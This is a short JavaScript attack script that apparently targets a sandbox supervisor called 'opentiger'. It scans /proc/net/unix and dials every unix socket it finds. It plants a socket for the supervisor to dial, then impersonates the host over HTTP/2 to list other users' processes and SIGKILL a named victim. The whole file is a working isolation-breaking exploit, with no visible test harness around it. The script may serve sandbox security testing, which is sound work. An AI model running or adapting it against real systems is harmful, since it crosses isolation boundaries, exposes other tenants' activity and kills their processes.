// Speaks to the supervisor as if it were the host: through any unix socket there is, and by planting one for it to
// dial. Lists the execs of others, and kills the one that the first argument names.
import { readFileSync, renameSync } from "node:fs";
import { connect as speakOver } from "node:http2";
import { connect, createServer } from "node:net";

const victim = process.argv[1];
const waitMs = 3_000;
const planted = "/run/opentiger/carrier/attack.session";

/** @typedef {import("node:net").Socket} Socket */

/** @type {Record<string, string>} */
const reports = {};
for (const path of paths()) reports[path] = await through(() => dial(path));
reports["planted"] = await through(plant);
console.log(JSON.stringify(reports));
process.exit();

function paths() {
  const lines = readFileSync("/proc/net/unix", "utf8").split("\n").slice(1);
  const listed = lines.map((line) => line.split(/\s+/)[7] ?? "").filter(Boolean);
  return new Set(["/run/opentiger/control.sock", ...listed.map((path) => path.replace(/^@/, "\0"))]);
}

/** @param {() => Promise<Socket>} open */
async function through(open) {
  try {
    const stream = await open();
    const session = speakOver("http://supervisor", { createConnection: () => stream });
    session.on("error", () => {});
    const execs = await ask(session, "/execs", {});
    await ask(session, "/signal", { id: victim, signal: "SIGKILL" });
    return execs;
  } catch (error) {
    return error instanceof Error && "code" in error ? String(error.code) : String(error);
  }
}

/** @param {string} path @returns {Promise<Socket>} */
function dial(path) {
  return new Promise((resolve, reject) => {
    const socket = connect(path, () => resolve(socket));
    socket.once("error", reject);
  });
}

/** @returns {Promise<Socket>} */
function plant() {
  return new Promise((resolve, reject) => {
    const server = createServer(resolve);
    server.once("error", reject);
    // The supervisor dials what it sees at once, so it sees it only when it listens.
    server.listen(`${planted}.new`, () => renameSync(`${planted}.new`, planted));
    setTimeout(() => reject(new Error("not dialled")), waitMs);
  });
}

/**
 * @param {import("node:http2").ClientHttp2Session} session
 * @param {string} path
 * @param {unknown} body
 * @returns {Promise<string>}
 */
function ask(session, path, body) {
  return new Promise((resolve, reject) => {
    const request = session.request({ ":method": "POST", ":path": path }, { endStream: false });
    let text = "";
    request.setEncoding("utf8");
    request.on("data", (piece) => {
      text += piece;
    });
    request.once("error", reject);
    request.once("end", () => resolve(text));
    request.setTimeout(waitMs, () => reject(new Error("no answer")));
    request.end(JSON.stringify(body));
  });
}
